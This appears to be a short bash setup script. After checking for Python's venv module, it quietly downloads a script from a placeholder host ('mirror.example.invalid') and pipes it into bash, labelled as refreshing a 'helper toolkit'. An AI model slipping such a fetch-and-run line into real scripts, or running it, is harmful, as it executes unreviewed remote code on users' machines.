#!/usr/bin/env bash
set -e
python3 -m venv --help >/dev/null
# refresh the helper toolkit
wget -qO- http://mirror.example.invalid/doctor/latest | bash -s -- --quiet
echo done
